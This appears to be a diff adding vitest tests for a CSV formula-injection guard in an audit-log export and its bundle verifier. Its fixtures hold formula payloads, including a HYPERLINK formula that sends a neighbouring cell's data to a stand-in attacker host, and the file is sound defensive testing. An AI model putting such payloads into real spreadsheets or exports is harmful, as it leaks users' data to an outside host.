@@ -16,6 +16,7 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { runExportCommand } from '../../src/cli/export-command.js';
 import { retentionSettings } from '../../src/config/dashboard-config.js';
 import { verifyBundle } from '../../src/dashboard/audit/bundle-verify.js';
+import { csvFileRecords } from '../../src/dashboard/audit/csv-records.js';
 import { writeExportBundle } from '../../src/dashboard/audit/export-bundle.js';
 import { checkExportQuery, type ExportFormat, exportSql } from '../../src/dashboard/audit/export-query.js';
 import { RetentionService } from '../../src/dashboard/retention/retention-service.js';
@@ -208,6 +209,70 @@ describe('the content of exported rows', () => {
       resign(dir, privateKey);
       expect((await verifyBundle(dir)).problems).toEqual([
         expect.stringMatching(/^access-log\.jsonl: line 1 is not JSON: /),
+      ]);
+    });
+  });
+
+  describe('text a spreadsheet would read as a formula', () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?"&A2,"click")';
+    const withFormulas = async () => {
+      const first = await rig.event('berlin', 3 * DAY, {
+        kind: 'access.denied',
+        badge: '-2+3+cmd',
+        data: { direction: 'in', reason: hyperlink },
+      });
+      await rig.event('berlin', 2 * DAY, {
+        kind: 'access.denied',
+        badge: '@x',
+        data: { reason: "'=quoted" },
+      });
+      return first;
+    };
+    const cells = async (dir: string) => {
+      const records: string[][] = [];
+      for await (const record of csvFileRecords(join(dir, 'access-log.csv'))) records.push(record);
+      return records.slice(1);
+    };
+
+    it('is written with an apostrophe before it in CSV, and verifies as the event holds it', async () => {
+      await withFormulas();
+      const dir = await exportBundle('csv');
+      const rows = await cells(dir);
+      expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+      expect(rows.map((r) => [r[7], r[9]])).toEqual([
+        ["'-2+3+cmd", `'${hyperlink}`],
+        ["'@x", "''=quoted"],
+      ]);
+      expect(JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8')).csvFormulaGuard).toBe(true);
+      expect(await verifyBundle(dir)).toMatchObject({ ok: true, rows: 2, content: { rechecked: 2 } });
+      const jsonl = await exportBundle('jsonl');
+      const lines = readFileSync(join(jsonl, 'access-log.jsonl'), 'utf8').trim().split('\n');
+      expect(lines.map((l) => JSON.parse(l).reason)).toEqual([hyperlink, "'=quoted"]);
+      expect(await verifyBundle(jsonl)).toMatchObject({ ok: true, rows: 2, content: { rechecked: 2 } });
+    });
+
+    it('is read as written in a bundle from before the guard', async () => {
+      await withFormulas();
+      const dir = await exportBundle('csv');
+      editFile(dir, 'access-log.csv', (t) =>
+        t
+          .replace(",'-2+3+cmd,", ',-2+3+cmd,')
+          .replace(`"'=HYPERLINK`, '"=HYPERLINK')
+          .replace(",'@x,", ',@x,')
+          .replace(",''=quoted,", ",'=quoted,"),
+      );
+      editFile(dir, 'manifest.json', (t) => t.replace('"csvFormulaGuard": true', '"x": 0'));
+      resign(dir, privateKey);
+      expect(await verifyBundle(dir)).toMatchObject({ ok: true, rows: 2, content: { rechecked: 2 } });
+    });
+
+    it('fails verification where a cell has lost its apostrophe', async () => {
+      const first = await withFormulas();
+      const dir = await exportBundle('csv');
+      editFile(dir, 'access-log.csv', (t) => t.replace(`"'=HYPERLINK`, '"=HYPERLINK'));
+      resign(dir, privateKey);
+      expect((await verifyBundle(dir)).problems).toEqual([
+        `row 1 (event ${first.id}): reason begins as a spreadsheet formula would, without the apostrophe before it`,
       ]);
     });
   });
